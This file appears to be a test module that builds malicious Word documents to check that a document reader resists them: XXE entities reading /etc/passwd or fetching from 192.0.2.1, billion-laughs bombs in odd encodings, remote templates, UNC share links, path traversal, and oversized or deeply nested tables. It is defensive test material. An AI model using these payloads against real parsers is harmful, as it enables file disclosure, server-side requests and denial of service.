"""Word files: entities, things from outside, nesting, spans."""

from __future__ import annotations

from tests.support.hostile import READ, READING, hostile
from tests.support.hostile.packages import (
    STORED,
    archive,
    office,
    paragraph,
    relationships,
    word,
    word_parts,
    word_table,
    word_xml,
)

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11))
    + "]>"
)
FROM_FILE = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
FROM_NETWORK = '<!DOCTYPE r [<!ENTITY e SYSTEM "http://192.0.2.1/e">]>'
OUTSIDE = '<!DOCTYPE r SYSTEM "http://192.0.2.1/e.dtd">'
PARAMETER = (
    '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY e '
    "'%file;'>\">%all;]>"
)
XML = '<?xml version="1.0" encoding="{}"?>'


def with_entity(declaration: str, encoding: str = "utf-8", declared: str = "UTF-8") -> bytes:
    body = paragraph("&l10;&e;" if "lolz" in declaration else "&e;") + word_table()
    return archive(word_parts(word_xml(body, XML.format(declared) + declaration).encode(encoding)))


@hostile("entities-billion-laughs.docx", "read.damaged")
def _():
    return with_entity(LAUGHS)


@hostile("entity-of-a-file.docx", "read.damaged")
def _():
    return with_entity(FROM_FILE)


@hostile("entity-of-the-network.docx", "read.damaged")
def _():
    return with_entity(FROM_NETWORK)


@hostile("entities-declared-outside.docx", "read.damaged")
def _():
    return with_entity(OUTSIDE)


@hostile("entities-by-parameters.docx", "read.damaged")
def _():
    return with_entity(PARAMETER)


@hostile("entities-in-utf16le.docx", "read.damaged")
def _():
    return with_entity(LAUGHS, "utf-16", "UTF-16")


@hostile("entities-in-utf16be.docx", "read.damaged")
def _():
    return with_entity(FROM_FILE, "utf-16-be", "UTF-16BE")


@hostile("entities-in-utf32.docx", "read.damaged")
def _():
    return with_entity(LAUGHS, "utf-32", "UCS-4")


@hostile("entities-in-utf7.docx", "read.damaged")
def _():
    body = paragraph("&l10;") + word_table()
    text = word_xml(body, LAUGHS).replace("<!", "+ADwAIQ-")
    head = '<?xml version="1.0" encoding="UTF-7"?>'
    return archive(word_parts((head + text).encode("utf-8")))


@hostile("entities-in-ebcdic.docx", "read.damaged")
def _():
    body = word_xml("&l10;", XML.format("IBM037") + LAUGHS)
    return archive(word_parts(body.encode("cp037")))


@hostile("entities-in-the-relations.docx", "read.damaged", READ)
def _():
    links = relationships(("rId1", office("image"), "&l10;", False)).replace(
        "<Relationships", LAUGHS + "<Relationships", 1
    )
    return word(word_table(), links)


@hostile("template-of-the-network.docx", READ)
def _():
    settings = relationships(
        ("rId1", office("attachedTemplate"), "http://192.0.2.1/harm.dotm", True)
    )
    links = relationships(("rId1", office("settings"), "settings.xml", False))
    parts = word_parts(word_xml(word_table()), links)
    return archive(
        {
            **parts,
            "word/_rels/settings.xml.rels": settings,
            "word/settings.xml": word_xml("").replace("w:document", "w:settings"),
        }
    )


@hostile("pictures-of-the-network.docx", READ)
def _():
    links = relationships(
        *(
            (f"rId{i}", office("image"), target, True)
            for i, target in enumerate(
                ["http://192.0.2.1/a.png", "file:///etc/passwd", "\\\\192.0.2.1\\share\\a.png"]
            )
        )
    )
    drawing = "".join(
        f'<w:drawing><a r:embed="rId{i}" r:link="rId{i}"/></w:drawing>' for i in range(3)
    )
    return word(f"<w:p><w:r>{drawing}</w:r></w:p>{word_table()}", links)


@hostile("chunks-of-files.docx", READ)
def _():
    links = relationships(
        ("rId1", office("aFChunk"), "file:///etc/passwd", True),
        ("rId2", office("aFChunk"), "../../../../../../etc/passwd", False),
        ("rId3", office("subDocument"), "http://192.0.2.1/a.docx", True),
        ("rId4", office("aFChunk"), "http://192.0.2.1/a.html", True),
    )
    chunks = "".join(f'<w:altChunk r:id="rId{i}"/>' for i in (1, 2, 4))
    return word(f'{chunks}<w:p><w:subDoc r:id="rId3"/></w:p>{word_table()}', links)


@hostile("chunk-of-itself.docx", READ, READING, "read.limit.depth", "read.damaged")
def _():
    links = relationships(
        ("rId1", office("aFChunk"), "document.xml", False),
        ("rId2", office("aFChunk"), "/word/document.xml", False),
    )
    return word('<w:altChunk r:id="rId1"/><w:altChunk r:id="rId2"/>' + word_table(), links)


@hostile(
    "chunk-nested.docx",
    READ,
    "read.no_table",
    "read.limit.depth",
    "read.limit.inflated",
    "read.damaged",
)
def _():
    inner = word(word_table())
    for _ in range(60):
        links = relationships(("rId1", office("aFChunk"), "chunk.docx", False))
        parts = word_parts(word_xml('<w:altChunk r:id="rId1"/>'), links)
        inner = archive({**parts, "word/chunk.docx": inner})
    return inner


@hostile("tables-nested-50.docx", READ)
def _():
    return word("<w:tbl><w:tr><w:tc>" * 50 + word_table() + "</w:tc></w:tr></w:tbl>" * 50)


@hostile("tables-nested-100.docx", "read.limit.depth")
def _():
    return word("<w:tbl><w:tr><w:tc>" * 100 + word_table() + "</w:tc></w:tr></w:tbl>" * 100)


@hostile("tables-nested-60000.docx", "read.limit.depth")
def _():
    return word("<w:tbl><w:tr><w:tc>" * 60_000 + "</w:tc></w:tr></w:tbl>" * 60_000, method=STORED)


@hostile("text-boxes-nested.docx", READ, "read.limit.depth")
def _():
    box = "<w:p><w:r><w:pict><w:txbxContent>"
    end = "</w:txbxContent></w:pict></w:r></w:p>"
    return word(box * 40 + word_table() + end * 40)


def cell(text: str, properties: str) -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


@hostile("span-100000000.docx", READ, "read.limit.area")
def _():
    wide = cell("x", '<w:gridSpan w:val="100000000"/>')
    return word(word_table() + f"<w:tbl><w:tr>{wide}</w:tr></w:tbl>")


@hostile("spans-in-many-rows.docx", READ, "read.limit.area")
def _():
    wide = cell("x", '<w:gridSpan w:val="99999999999999999999"/>')
    return word(word_table() + f"<w:tbl>{f'<w:tr>{wide}</w:tr>' * 5_000}</w:tbl>")


@hostile("grid-before-100000000.docx", READ, "read.limit.area", "read.damaged")
def _():
    row = f'<w:tr><w:trPr><w:gridBefore w:val="100000000"/></w:trPr>{cell("x", "")}</w:tr>'
    return word(word_table() + f"<w:tbl>{row * 300}</w:tbl>")


@hostile("merge-without-beginning.docx", READ)
def _():
    row = f"<w:tr>{cell('x', '<w:vMerge/>') * 3}</w:tr>"
    return word(f"<w:tbl>{row * 50}</w:tbl>" + word_table())


@hostile("merge-over-everything.docx", "read.limit.area", "read.limit.nodes")
def _():
    row = f"<w:tr>{cell('', '<w:vMerge/>')}<w:tc/></w:tr>"
    return word(f"<w:tbl>{row * 60_000}</w:tbl>" + word_table(), method=STORED)


@hostile("numbers-that-are-none.docx", READ)
def _():
    strange = "".join(
        cell("x", f'<w:gridSpan w:val="{value}"/><w:vMerge w:val="{value}"/>')
        for value in ("-5", "0", "1e9", "NaN", "²", "", "0x10", "٣")
    )
    return word(f"<w:tbl><w:tr>{strange}</w:tr></w:tbl>" + word_table())


@hostile("tables-20000.docx", READ, "read.limit.area", "read.limit.nodes")
def _():
    return word(word_table() + "<w:tbl><w:tr><w:tc/></w:tr></w:tbl>" * 20_000, method=STORED)


@hostile("paragraphs-120000.docx", "read.limit.nodes", "read.limit.area")
def _():
    return word(word_table() + paragraph("其他") * 120_000, method=STORED)


@hostile("paragraph-of-millions.docx", "read.limit.characters")
def _():
    return word(word_table() + paragraph("字" * 2_100_000), method=STORED)


@hostile("runs-without-end.docx", READ, READING, "read.limit.nodes")
def _():
    runs = "<w:r><w:t>规</w:t></w:r>" * 60_000
    return word(f"<w:p>{runs}</w:p>{word_table()}", method=STORED)


@hostile("numbering-of-itself.docx", READ, "read.damaged")
def _():
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    styles = (
        f"<w:styles {w}>"
        + "".join(
            f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{(i + 1) % 5000}"/>'
            "</w:style>"
            for i in range(5_000)
        )
        + "</w:styles>"
    )
    links = relationships(
        ("rId1", office("styles"), "styles.xml", False),
        ("rId2", office("numbering"), "numbering.xml", False),
    )
    numbering = (
        f'<w:numbering {w}><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s0"/>'
        '<w:lvl w:ilvl="0"><w:start w:val="99999999999"/><w:numFmt w:val="chineseCounting"/>'
        f'<w:lvlText w:val="{"%1" * 3000}"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    listed = (
        '<w:p><w:pPr><w:pStyle w:val="s0"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/>'
        "</w:numPr></w:pPr><w:r><w:t>条</w:t></w:r></w:p>"
    )
    parts = word_parts(word_xml(word_table() + listed * 50), links)
    return archive({**parts, "word/styles.xml": styles, "word/numbering.xml": numbering})


@hostile("with-macros.docm", READ)
def _():
    parts = word_parts(word_xml(word_table()))
    types = str(parts["[Content_Types].xml"]).replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main",
    )
    return archive({**parts, "[Content_Types].xml": types, "word/vbaProject.bin": b"harm" * 9})


@hostile("not-xml.docx", "read.damaged")
def _():
    return archive(word_parts(b"\x00\xff" * 5_000))


@hostile("attribute-of-megabytes.docx", READ, "read.damaged")
def _():
    return word(f'<w:p w:rsidR="{"a" * 3_000_000}"/>' + word_table(), method=STORED)
